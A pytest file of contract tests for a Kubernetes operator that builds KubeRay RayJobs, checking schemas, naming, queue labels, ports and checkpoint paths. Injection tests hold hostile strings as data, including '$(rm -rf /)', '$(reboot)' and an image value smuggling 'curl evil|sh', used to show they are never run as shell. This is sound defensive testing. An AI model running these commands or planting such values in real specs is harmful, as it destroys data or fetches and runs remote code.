"""Contract tests: our RayJobs against KubeRay v1.7.0's CRD, our pod templates against Kubernetes,
and hostile specs carried as data, never as shell."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import jsonschema
import kubernetes_validate
import pytest
import yaml
from herl_operator import builders as b
from herl_operator.cli import render
from op_helpers import REPO, SAMPLES

from herl.api.validate import validate_document

KUBERAY_CRD = REPO.parent / "shared" / "kuberay" / "ray.io_rayjobs.yaml"
SAMPLE_FILES = sorted(SAMPLES.glob("*.yaml"))


@pytest.fixture(scope="module")
def rayjob_schema() -> dict[str, Any]:
    if not KUBERAY_CRD.exists():
        pytest.fail(f"KubeRay CRD not found at {KUBERAY_CRD} (expected the shared/ folder beside the repo)")
    crd = yaml.safe_load(KUBERAY_CRD.read_text())
    return next(v for v in crd["spec"]["versions"] if v["name"] == "v1")["schema"]["openAPIV3Schema"]


def _job(doc: dict[str, Any]) -> Any:
    job, findings = validate_document(doc)
    assert job is not None, [str(f) for f in findings]
    return job


def _build(doc: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    job = _job(doc)
    ctx = b.Context(namespace=doc["metadata"].get("namespace") or "default", uid="0b7c-uid")
    return b.build_rayjob(job, ctx), b.build_configmap(job, ctx, doc["spec"])


def _strict_schema(schema: Any) -> Any:
    """Make every object schema with properties reject unknown fields (a structural CRD prunes them
    silently; for a contract test we want to hear about typos)."""
    if isinstance(schema, dict):
        out = {k: _strict_schema(v) for k, v in schema.items()}
        if (
            out.get("type") == "object"
            and "properties" in out
            and "additionalProperties" not in out
            and not out.get("x-kubernetes-preserve-unknown-fields")
        ):
            out["additionalProperties"] = False
        return out
    if isinstance(schema, list):
        return [_strict_schema(s) for s in schema]
    return schema


@pytest.mark.parametrize("path", SAMPLE_FILES, ids=lambda p: p.stem)
def test_sample_rayjob_validates_against_kuberay_crd(path: Path, rayjob_schema: dict[str, Any]) -> None:
    rj, _ = _build(yaml.safe_load(path.read_text()))
    jsonschema.Draft4Validator(_strict_schema(rayjob_schema)).validate(rj)
    assert rj["apiVersion"] == "ray.io/v1"
    assert len(rj["metadata"]["name"]) <= b.RAYJOB_MAX_NAME
    spec = rj["spec"]
    assert spec["entrypoint"] == b.ENTRYPOINT
    assert spec["shutdownAfterJobFinishes"] is True and spec["submissionMode"] == "K8sJobMode"
    head = spec["rayClusterSpec"]["headGroupSpec"]
    # Exactly room for veRL's TaskRunner, pinned to the head where the metrics port is scraped.
    assert head["rayStartParams"]["num-cpus"] == "1"
    assert "nvidia.com/gpu" not in json.dumps(head)
    worker = spec["rayClusterSpec"]["workerGroupSpecs"][0]
    limits = worker["template"]["spec"]["containers"][0]["resources"]["limits"]
    assert int(limits["nvidia.com/gpu"]) >= 1
    owner = rj["metadata"]["ownerReferences"][0]
    assert owner["controller"] is True and owner["blockOwnerDeletion"] is True
    for tmpl in (head["template"], worker["template"]):
        assert tmpl["metadata"]["labels"][b.LABEL_JOB] == rj["metadata"]["labels"][b.LABEL_JOB]


def test_the_shared_crd_really_rejects_a_broken_rayjob(rayjob_schema: dict[str, Any]) -> None:
    rj, _ = _build(yaml.safe_load(SAMPLE_FILES[0].read_text()))
    broken = copy.deepcopy(rj)
    del broken["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["groupName"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft4Validator(_strict_schema(rayjob_schema)).validate(broken)


@pytest.mark.parametrize("path", SAMPLE_FILES, ids=lambda p: p.stem)
def test_pod_templates_and_configmap_are_valid_kubernetes(path: Path) -> None:
    doc = yaml.safe_load(path.read_text())
    rj, cm = _build(doc)
    version = kubernetes_validate.latest_version()
    cluster = rj["spec"]["rayClusterSpec"]
    for i, tmpl in enumerate(
        [cluster["headGroupSpec"]["template"], *(w["template"] for w in cluster["workerGroupSpecs"])]
    ):
        pod = {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": f"p{i}", "namespace": "ns", **tmpl["metadata"]},
            "spec": tmpl["spec"],
        }
        kubernetes_validate.validate(pod, version, strict=True)
    kubernetes_validate.validate(cm, version, strict=True)
    cleanup_doc = copy.deepcopy(doc)
    cleanup_doc["spec"].setdefault("checkpoints", {})
    if "pvc" in cleanup_doc["spec"]["checkpoints"]:
        cleanup_doc["spec"]["checkpoints"]["retention"] = "Delete"
        job = b.build_cleanup_job(_job(cleanup_doc), b.Context(namespace="ns"))
        assert job is not None
        kubernetes_validate.validate(job, version, strict=True)
        assert job["spec"]["template"]["spec"]["containers"][0]["command"][0] == "find"


def test_kubernetes_validate_really_rejects_a_bad_pod() -> None:
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "p"},
        "spec": {"containers": [{"name": "c", "image": "x", "bogusField": 1}]},
    }
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(pod, kubernetes_validate.latest_version(), strict=True)


def test_pvc_checkpoint_mount_env_and_secrets() -> None:
    doc = yaml.safe_load((SAMPLES / "medical-qwen2.5-7b.yaml").read_text())
    rj, cm = _build(doc)
    job = _job(doc)
    for group in [
        rj["spec"]["rayClusterSpec"]["headGroupSpec"],
        *rj["spec"]["rayClusterSpec"]["workerGroupSpecs"],
    ]:
        c = group["template"]["spec"]["containers"][0]
        env = {e["name"]: e for e in c["env"]}
        if job.spec.checkpoints_.pvc:
            assert env["HERL_CHECKPOINT_DIR"]["value"] == "/checkpoints"
            mount = next(m for m in c["volumeMounts"] if m["name"] == "checkpoints")
            assert mount["subPath"] == b.checkpoint_subpath(job, doc["metadata"]["namespace"], "0b7c-uid")
        judge = job.spec.reward_.judge
        if judge and judge.api_key_secret_ref:
            assert (
                env["HERL_JUDGE_API_KEY"]["valueFrom"]["secretKeyRef"]["name"]
                == judge.api_key_secret_ref.name
            )
        shm = next(v for v in group["template"]["spec"]["volumes"] if v["name"] == "dshm")
        assert shm["emptyDir"] == {"medium": "Memory", "sizeLimit": job.spec.resources_.shared_memory}
    loaded = yaml.safe_load(cm["data"]["job.yaml"])
    again = _job(loaded)
    assert again.spec == job.spec  # the trainer reads back exactly the same spec


def _strings(obj: Any, path: str = "") -> list[tuple[str, str]]:
    if isinstance(obj, dict):
        return [s for k, v in obj.items() for s in _strings(v, f"{path}.{k}")]
    if isinstance(obj, list):
        return [s for i, v in enumerate(obj) for s in _strings(v, f"{path}[{i}]")]
    return [(path, obj)] if isinstance(obj, str) else []


HOSTILE = "a'b\"c $(rm -rf /) `id` ; | & \\ ${HOME}"


def test_hostile_strings_travel_as_data_never_as_shell() -> None:
    doc = yaml.safe_load((SAMPLES / "if-qwen2.5-7b.yaml").read_text())
    doc["metadata"]["name"] = "a" + "b" * 38 + "z"  # 40 chars, the maximum
    doc["spec"]["model"]["chatTemplate"] = HOSTILE + "\nnewline {{ x }}\n" + "x" * 5000
    doc["spec"]["env"] = [{"name": "EVIL", "value": HOSTILE + "\n$(reboot)"}]
    doc["spec"]["verlOverrides"] = ["trainer.project_name=$(whoami);`id`", "+custom.key='quoted \"x\"'"]
    rj, cm = _build(doc)
    assert rj["spec"]["entrypoint"] == b.ENTRYPOINT
    marker_fields = [p for p, s in _strings(rj) if "$(" in s or "`" in s]
    # The only places a hostile string may appear in the RayJob are env *values* (data to the process).
    assert marker_fields, "the hostile env value should be present as data"
    for p in marker_fields:
        assert p.endswith(".value") and ".env[" in p, p
    for p, s in _strings(rj):
        if p.endswith(("entrypoint", ".command", ".args")) or "rayStartParams" in p:
            assert "$(" not in s and "`" not in s and HOSTILE not in s, p
    assert (
        HOSTILE in cm["data"]["job.yaml"]
        or HOSTILE in yaml.safe_load(cm["data"]["job.yaml"])["spec"]["model"]["chatTemplate"]
    )
    back = yaml.safe_load(cm["data"]["job.yaml"])
    assert back["spec"]["verlOverrides"] == doc["spec"]["verlOverrides"]
    assert back["spec"]["model"]["chatTemplate"] == doc["spec"]["model"]["chatTemplate"]


def test_hostile_image_is_refused_before_any_object_is_built() -> None:
    doc = yaml.safe_load((SAMPLES / "if-qwen2.5-7b.yaml").read_text())
    doc["spec"]["resources"]["image"] = "repo/img:1;curl evil|sh"
    job, findings = validate_document(doc)
    assert job is None and any("resources.image" in f.path for f in findings)


@pytest.mark.parametrize("name", ["a", "x" * 40, "x" * 47, "y" * 60, "z-" * 40 + "z"])
def test_rayjob_name_is_deterministic_dns1035_and_short(name: str) -> None:
    import re

    out = b.rayjob_name(name)
    assert out == b.rayjob_name(name)
    assert len(out) <= b.RAYJOB_MAX_NAME and re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", out)
    if len(name) <= b.RAYJOB_MAX_NAME:
        assert out == name


def test_queue_labels_suspend_and_deadline() -> None:
    doc = yaml.safe_load((SAMPLES / "if-qwen2.5-7b.yaml").read_text())
    doc["spec"]["runPolicy"]["attemptDeadlineSeconds"] = 3600
    rj, _ = _build(doc)
    assert rj["metadata"]["labels"][b.KUEUE_QUEUE] == "gpu-team-a"
    assert rj["metadata"]["labels"][b.KUEUE_PRIORITY] == "research"
    assert rj["spec"]["suspend"] is True  # queued → created suspended for Kueue
    assert rj["spec"]["activeDeadlineSeconds"] == 3600 and rj["spec"]["backoffLimit"] == 3
    del doc["spec"]["queue"]
    rj, _ = _build(doc)
    assert rj["spec"]["suspend"] is False and b.KUEUE_QUEUE not in rj["metadata"]["labels"]
    worker = rj["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]
    assert worker["nodeSelector"]["nvidia.com/gpu.product"] == "NVIDIA-H100-80GB-HBM3"
    assert worker["tolerations"][0]["key"] == "nvidia.com/gpu"
    head = rj["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
    ports = {p["name"]: p["containerPort"] for p in head["ports"]}
    # KubeRay adds its default head ports only when a container declares none (kuberay#5179): ours
    # must come with dashboard/GCS/client, or KubeRay never finds the dashboard and never submits.
    assert ports == {
        "gcs-server": 6379,
        "dashboard": 8265,
        "client": 10001,
        "metrics": 8080,
        "herl-metrics": 9400,
    }
    doc["spec"]["metrics"] = {"enabled": False}
    rj, _ = _build(doc)
    head = rj["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
    assert {p["name"] for p in head["ports"]} == {"gcs-server", "dashboard", "client", "metrics"}


def test_custom_submitter_has_resources() -> None:
    """A submitter template without resources is refused in namespaces with a ResourceQuota."""
    doc = yaml.safe_load((SAMPLES / "if-qwen2.5-7b.yaml").read_text())
    doc["spec"]["resources"]["serviceAccountName"] = "trainer"
    rj, _ = _build(doc)
    container = rj["spec"]["submitterPodTemplate"]["spec"]["containers"][0]
    assert container["resources"]["requests"] and container["resources"]["limits"]


def test_render_prints_configmap_and_rayjob() -> None:
    out = render(str(SAMPLES / "if-qwen2.5-7b.yaml"))
    docs = [d for d in yaml.safe_load_all(out) if d]
    assert [d["kind"] for d in docs] == ["ConfigMap", "RayJob"]
    assert docs[1]["spec"]["entrypoint"] == b.ENTRYPOINT


def test_checkpoints_and_their_cleanup_are_keyed_by_the_jobs_uid() -> None:
    """Delete and re-create under the same name is a new job: its own checkpoint folder (no resume
    from the old job's), and the old job's cleanup Job (retention Delete) cannot empty it."""
    doc = yaml.safe_load((SAMPLES / "if-qwen2.5-7b.yaml").read_text())
    doc["spec"]["checkpoints"]["retention"] = "Delete"
    job = _job(doc)
    old, new = b.Context(namespace="ml", uid="11111111-old"), b.Context(namespace="ml", uid="22222222-new")
    old_path, new_path = (b.checkpoint_subpath(job, "ml", c.uid) for c in (old, new))
    assert old_path != new_path and old_path.startswith("herl/ml/herl-if-qwen25-7b/")
    worker = b.build_rayjob(job, new)["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]
    mounts = {m["name"]: m for m in worker["containers"][0]["volumeMounts"]}
    assert mounts["checkpoints"]["subPath"] == new_path
    old_cleanup, new_cleanup = b.build_cleanup_job(job, old), b.build_cleanup_job(job, new)
    assert old_cleanup and new_cleanup
    assert old_cleanup["metadata"]["name"] != new_cleanup["metadata"]["name"]
    spec = old_cleanup["spec"]["template"]["spec"]
    assert spec["containers"][0]["volumeMounts"][0]["subPath"] == old_path != new_path
    # A user-chosen subPath is used as given (docs/operator.md says what that means on re-create).
    doc["spec"]["checkpoints"]["pvc"]["subPath"] = "team/run-1"
    job = _job(doc)
    assert (
        b.checkpoint_subpath(job, "ml", old.uid) == b.checkpoint_subpath(job, "ml", new.uid) == "team/run-1"
    )
